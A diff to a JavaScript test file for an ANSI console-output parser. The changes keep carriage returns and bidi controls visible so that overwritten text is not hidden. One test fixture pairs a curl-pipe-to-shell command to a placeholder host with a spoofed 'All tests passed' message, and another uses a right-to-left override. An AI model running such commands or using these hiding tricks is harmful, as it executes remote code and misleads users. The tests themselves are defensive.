@@ -14,8 +14,13 @@ describe('ansi output', () => {
     expect(line).toEqual([{ text: 'ok', fg: 'green' }, { text: ' ' }, { text: 'bad', fg: 'red' }, { text: ' ' }, { text: 'pink' }, { text: ' ' }, { text: 'true' }, { text: ' ' }, { text: 'bg', bg: 'green' }])
   })
 
-  it('shows a line that rewrote itself with \\r as it was left, and takes CRLF as LF', () => {
-    expect(ansiLines('progress 10%\rprogress 100%\nnext\r\nlast').map(lineText)).toEqual(['progress 100%', 'next', 'last'])
+  it('takes CRLF as LF but keeps every other \\r in the line: what a terminal would overwrite is not hidden', () => {
+    expect(ansiLines('progress 10%\rprogress 100%\nnext\r\nlast').map(lineText)).toEqual(['progress 10%\rprogress 100%', 'next', 'last'])
+    expect(ansiLines('curl -s x.example/p.sh | sh\r\x1b[32mAll tests passed\x1b[0m\n').map(lineText)).toEqual(['curl -s x.example/p.sh | sh\rAll tests passed'])
+  })
+
+  it('leaves in the text what anser does not consume (an OSC, a lone ESC, bidi controls), for the console to show escaped', () => {
+    expect(ansiLines('a\x1b]0;title\x07b \x1bX \u202eevil').map(lineText)).toEqual(['a\x1b]0;title\x07b \x1bX \u202eevil'])
   })
 
   it('drops other escape sequences and never leaves markup: angle brackets stay text', () => {
